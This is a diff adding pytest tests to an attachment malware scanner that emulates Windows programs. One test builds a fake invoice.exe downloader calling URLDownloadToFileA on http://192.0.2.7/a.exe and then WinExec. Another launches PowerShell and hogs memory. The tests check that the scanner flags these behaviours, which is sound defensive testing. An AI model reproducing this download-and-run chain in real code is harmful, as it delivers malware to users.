@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import shutil
+from importlib.util import find_spec
 
 import pytest
 
@@ -16,6 +17,7 @@ from tasks.scanner import Scanner, decoded_parts
 from tests import files, mail
 from tests import files_sandbox as sandbox
 from tests.cages import roomy
+from tests.files_emulated import program
 from tests.files_old_archives import lzh
 
 # What no bound of the engine stops: its own loop over a proxy that claims to be long.
@@ -83,3 +85,29 @@ def test_without_a_cage_no_code_is_run(tmp_path_factory: pytest.TempPathFactory)
 
 def mail_with_script(scanner: Scanner) -> Message:
     return scanner.parse(mail.mail(attachments=[("a.js", b"1")]), message_id="m", truncated=False).message
+
+
+@pytest.mark.skipif(find_spec("speakeasy") is None, reason="the `emulation` extra is not installed")
+@pytest.mark.parametrize("bits", [32, 64])
+def test_a_program_is_emulated_in_the_cage_and_its_address_is_judged(scanner: Scanner, bits: int) -> None:
+    downloader = program(
+        ("kernel32.VirtualAlloc", 0, 4_096, 0x3000, 0x40),
+        ("urlmon.URLDownloadToFileA", 0, "http://192.0.2.7/a.exe", "C:\\a.exe", 0, 0),
+        ("kernel32.WinExec", "C:\\a.exe", 0),
+        bits=bits,
+    )
+    report = report_of(scanner, "invoice.zip", files.zip_file({"invoice.exe": downloader}), seconds=60.0)
+    found = {finding.id: finding for finding in report.findings}
+    assert report.status is PoolStatus.OK, report.reason
+    assert "fetches GET http://192.0.2.7/a.exe" in found["emulated_program_downloads_and_runs"].detail
+    assert any(finding.id.startswith(("link_", "url_")) for finding in report.findings), sorted(found)
+
+
+@pytest.mark.skipif(find_spec("speakeasy") is None, reason="the `emulation` extra is not installed")
+def test_a_program_that_takes_all_it_can_get_leaves_the_cage_to_the_next(scanner: Scanner) -> None:
+    hog = program(
+        ("kernel32.WinExec", "powershell -c a", 0), ("kernel32.VirtualAlloc", 0, 0x6000000, 0x3000, 4), b"\xeb\xe1"
+    )
+    report = report_of(scanner, "hog.exe", hog, seconds=60.0)
+    assert "emulated_program_starts_interpreters" in {finding.id for finding in report.findings}, report.reason
+    assert report_of(scanner, "a.js", sandbox.DROPPER_JS).findings
